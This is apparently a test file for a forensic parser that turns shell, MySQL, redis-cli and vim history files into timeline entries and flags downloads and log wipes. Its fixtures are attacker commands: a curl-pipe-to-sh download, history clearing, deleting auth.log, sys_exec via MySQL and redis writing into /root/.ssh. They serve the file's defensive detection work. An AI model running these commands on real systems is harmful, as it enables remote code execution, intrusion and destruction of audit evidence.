import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import type { LineFormat } from '../../core/log-format.ts'
import { bashHistory, clientHistory, databaseHistory, fishHistory, vimInfo, zshHistory } from './histories.ts'

const told = (format: LineFormat, path: string, ...lines: string[]) =>
  draftsOf(format, path, ...lines).map(d =>
    [d.time && new Date(d.time.ms).toISOString().slice(0, 19), d.verb, d.user, d.program, d.command ?? d.path, d.url]
      .filter(Boolean)
      .join(' | '),
  )

test('bash with times and without; what fetches, what wipes', () => {
  assert.deepEqual(
    told(
      bashHistory,
      '/root/.bash_history',
      'id',
      '#1767323045',
      'curl -s http://192.0.2.9/x.sh | sh',
      '#1767323046',
      'history -c',
      'rm -rf /var/log/auth.log',
    ),
    [
      'command | root | bash | id',
      '2026-01-02T03:04:05 | command | root | bash | curl -s http://192.0.2.9/x.sh | sh | http://192.0.2.9/x.sh',
      '2026-01-02T03:04:06 | command | root | bash | history -c',
      '2026-01-02T03:04:06 | log-gap | root | bash | history -c',
      '2026-01-02T03:04:06 | command | root | bash | rm -rf /var/log/auth.log',
      '2026-01-02T03:04:06 | log-gap | root | bash | rm -rf /var/log/auth.log',
    ],
  )
})

test('zsh, fish, clients, vim', () => {
  assert.deepEqual(told(zshHistory, '/root/.zsh_history', ': 1767323045:0;echo a\\', 'b', 'plain'), [
    '2026-01-02T03:04:05 | command | root | zsh | echo a\nb',
    'command | root | zsh | plain',
  ])
  assert.deepEqual(
    told(
      fishHistory,
      '/root/.local/share/fish/fish_history',
      '- cmd: echo a\\nb',
      '  when: 1767323045',
      '  paths:',
      '    - x',
      '- cmd: id',
    ),
    ['2026-01-02T03:04:05 | command | root | fish | echo a\nb', 'command | root | fish | id'],
  )
  assert.deepEqual(told(databaseHistory, '/root/.mysql_history', '_HiStOrY_V2_', 'select\\040sys_exec(1);'), [
    'database | root | mysql | select sys_exec(1);',
  ])
  assert.deepEqual(told(clientHistory, '/root/.rediscli_history', 'config set dir /root/.ssh'), [
    'command | root | redis-cli | config set dir /root/.ssh',
  ])
  assert.deepEqual(told(vimInfo, '/root/.viminfo', '# x', '|4,48,12,3,1767323045,"/etc/crontab"'), [
    '2026-01-02T03:04:05 | file | root | vim | /etc/crontab',
  ])
})

test('near misses: reading a log or asking for the history wipes nothing; a comment is no time', () => {
  const quiet = [
    'tail -f /var/log/auth.log',
    'history | grep rm',
    'ls ~/.bash_history',
    '#not a time',
    '#123',
    'logrotate -f /etc/logrotate.conf',
  ]
  assert.deepEqual(
    draftsOf(bashHistory, '/root/.bash_history', ...quiet).map(d => d.verb),
    quiet.map(() => 'command'),
  )
  assert.ok(draftsOf(bashHistory, '/root/.bash_history', '#123', 'id').every(d => d.time === undefined))
})

test('property: any text, no throw', () => {
  const line = fc.oneof(
    fc.string({ maxLength: 80 }),
    fc.constantFrom('#1767323045', ': 1767323045:0;a\\', '- cmd: x', '  when: 1767323045', 'history -c; $(', "'"),
  )
  for (const format of [bashHistory, zshHistory, fishHistory, databaseHistory, clientHistory, vimInfo])
    fc.assert(fc.property(fc.array(line, { maxLength: 8 }), lines => void draftsOf(format, '/root/.x_history', ...lines)))
})
